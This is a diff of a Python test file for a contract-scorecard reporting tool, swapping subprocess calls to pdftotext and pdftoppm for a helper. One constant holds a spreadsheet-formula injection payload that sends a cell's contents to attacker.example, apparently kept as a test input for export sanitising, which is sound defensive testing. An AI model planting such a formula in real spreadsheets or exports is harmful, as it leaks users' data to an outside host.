@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import io
 import sqlite3
-import subprocess
 import zipfile
 
 import pandas as pd
@@ -16,6 +15,7 @@ from cjmonitor import pipeline
 from cjmonitor.db import session_scope
 from cjmonitor.settings import get_settings
 from contracts.models import Contract, Judgement, Provider, Submission
+from tests.deps import poppler
 
 CONTRACT, PERIOD = "CRC-E23000005", "2025-12"
 HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A1,"Open report")'
@@ -29,7 +29,7 @@ def card(demo_home):
 
 def test_pdf_has_page_numbers_drill_down_and_submissions(card, demo_home):
     _html, pdf, _xlsx = card
-    text = " ".join(subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout.split())
+    text = " ".join(poppler(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout.split())
     assert "Page 1 of" in text and f"{CONTRACT} scorecard, {PERIOD}" in text
     assert "The judged months behind each KPI" in text and "judged months, latest first" in text
     with session_scope(get_settings(demo_home)) as session:
@@ -41,7 +41,7 @@ def test_pdf_has_page_numbers_drill_down_and_submissions(card, demo_home):
 
 def test_pdf_pages_are_drawn(card, tmp_path):
     _html, pdf, _xlsx = card
-    subprocess.run(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "2", str(pdf), str(tmp_path / "page")], check=True)
+    poppler(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "2", str(pdf), str(tmp_path / "page")], check=True)
     import matplotlib.image as mpimg
 
     pages = sorted(tmp_path.glob("page-*.png"))
